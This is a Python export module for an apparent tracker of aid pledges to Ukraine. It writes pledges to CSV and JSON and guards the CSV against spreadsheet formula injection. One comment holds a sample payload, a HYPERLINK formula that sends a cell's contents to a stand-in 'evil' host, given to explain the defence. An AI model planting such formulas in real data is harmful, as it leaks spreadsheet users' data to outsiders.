"""Export of the pledge table for analysts, as CSV or JSON.

Column names follow the Kiel Institute's Ukraine Support Tracker where they mean
the same thing (Countries, Type of Aid Specific, Item, Quantity, Reported Value,
Reported Currency, Source link), so both tables can be put side by side; columns
the tracker does not have keep our own names. The tracker's "Announcement Date" is
the day a pledge was announced, which pledgewatch does not know (the extractor reads
no date; a story's date is its first article's): ours is "First Reported".
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Collection, Sequence

from bot.core.feeds.urls import without_userinfo
from bot.core.pledges.listing.words import donor_name
from bot.core.pledges.passes.entities import Entities
from bot.core.text import one_line

# Donor codes that are organisations or groups, not countries, when no entity list is
# at hand (config/entities.toml marks them with `kind`).
ORGANISATIONS = frozenset({"NATO", "EU", "G7", "ALLIES"})

# (our field, exported column)
COLUMNS: tuple[tuple[str, str], ...] = (
    ("id", "ID"),
    ("country", "Countries"),
    ("organisation", "Organisation"),
    ("donor", "Donor Code"),
    ("reported_at", "First Reported"),
    ("category", "Type of Aid Specific"),
    ("item", "Item"),
    ("system", "System"),
    ("quantity", "Quantity"),
    ("value", "Reported Value"),
    ("currency", "Reported Currency"),
    ("status", "Status"),
    ("evidence", "Explanation"),
    ("source_names", "Source of Information"),
    ("source_links", "Source link"),
    ("story_title", "Story Title"),
    # The first report's day again, under the name this column had until stop 47: the README
    # listed it among the export's columns, so scripts may read it. Last, so the columns
    # before it keep their places; it is not the day of the announcement.
    ("reported_at", "Announcement Date"),
)
# Several sources of one pledge are listed in the same order in `Source of
# Information` and `Source link`, separated by this (a URL never holds " | ").
SOURCE_SEPARATOR = " | "


def organisation_codes(entities: Entities) -> frozenset[str]:
    """The donor codes of the entity list that are not countries (NATO, EU, G7, ALLIES)."""
    return frozenset(code for code, donor in entities.donors.items() if donor.kind not in ("", "country"))


def _record(row: dict, organisations: Collection[str]) -> dict:
    # Each source with a link, in the order it was recorded: outlet names and links
    # line up, so `Source of Information` names the articles `Source link` points to.
    sources = [s for s in row.get("sources") or [] if s.get("url")]
    code = row.get("donor") or ""
    values = dict(
        row,
        # `Countries` holds a country's name; an organisation or a group of donors ("the
        # allies") is not a country and has its own column. Codes stay in `Donor Code`.
        country="" if code in organisations else donor_name(code),
        organisation=donor_name(code) if code in organisations else "",
        source_names=SOURCE_SEPARATOR.join(one_line(s.get("source")) or "?" for s in sources),
        # Without a user name and password, as every page shows a link (bot.core.feeds.urls).
        source_links=SOURCE_SEPARATOR.join(without_userinfo(s["url"]) for s in sources),
        reported_at=str(row.get("reported_at") or "")[:10],
    )
    return {column: values.get(field) for field, column in COLUMNS}


# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and
# carriage return, as the start of one), and feed text is written by strangers:
# `=HYPERLINK("http://evil/?"&A1, "source")` in a title would run in the analyst's
# spreadsheet. OWASP's CSV-injection guidance: prefix such cells with a single quote
# so they are shown as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """`value` unchanged unless it is text a spreadsheet would evaluate; numbers stay numbers.
    Leading whitespace is looked through: some spreadsheets drop it before parsing (spaces,
    and line breaks too: a cell "\n=1+1" went out as it was)."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS):
        value = "'" + value
    # The writer quotes cells holding "\n" (its line terminator) but not a bare "\r",
    # which readers take for the end of the row.
    return value.replace("\r\n", "\n").replace("\r", "\n")


# The CSV's two forms, by the names the web's `sep` and the command line's `--sep` give them:
# "comma" (the default: commas between cells and a decimal point, as programs and a spreadsheet
# set to English read it) or "semicolon" (semicolons and a decimal comma, as a spreadsheet set
# to French or German reads it: the default opened there in one column).
CSV_SEPARATORS = ("comma", "semicolon")


def pledges_to_csv(rows: Sequence[dict], organisations: Collection[str] = ORGANISATIONS,
                   semicolons: bool = False) -> str:
    """The rows as CSV: cells parted by commas, decimals by a point, which programs and a
    spreadsheet set to English read. `semicolons`: cells parted by semicolons and decimals by
    a comma, what a spreadsheet set to French or German (and most of continental Europe)
    reads: it opened the comma-separated file as one column."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[c for _, c in COLUMNS], lineterminator="\n",
                            delimiter=";" if semicolons else ",")
    writer.writeheader()
    for row in rows:
        record = _record(row, organisations)
        writer.writerow({column: spreadsheet_safe(_decimal_comma(_whole(value)) if semicolons else _whole(value))
                         for column, value in record.items()})
    return out.getvalue()


def _decimal_comma(value: object) -> object:
    """A number that is not whole (a sum of 2.5, as a float) with a decimal comma, as a
    spreadsheet set to French or German reads it: "2.5" is a date or text there."""
    return str(value).replace(".", ",") if isinstance(value, float) else value


def _whole(value: object) -> object:
    """A sum of money the store keeps as a float (2500000000.0) written without its ".0",
    as the whole number it is: a spreadsheet set to a language whose decimal mark is a comma
    (French, German) reads the point as a thousands separator, and took 2500000000.0 for
    25000000000, ten times the sum, or for text."""
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


def for_spreadsheets(csv_text: str) -> str:
    """The CSV as a file meant for a spreadsheet: with a UTF-8 byte order mark, without
    which Excel reads the file in the local code page and every letter beyond ASCII comes
    out as mojibake ("Zürich" as "ZÃ¼rich"). Not for standard output: a program reading
    it takes the mark for part of the first column's name."""
    return "\ufeff" + csv_text


def pledges_to_json(rows: Sequence[dict], organisations: Collection[str] = ORGANISATIONS) -> str:
    return json.dumps([_record(r, organisations) for r in rows], ensure_ascii=False, indent=2) + "\n"
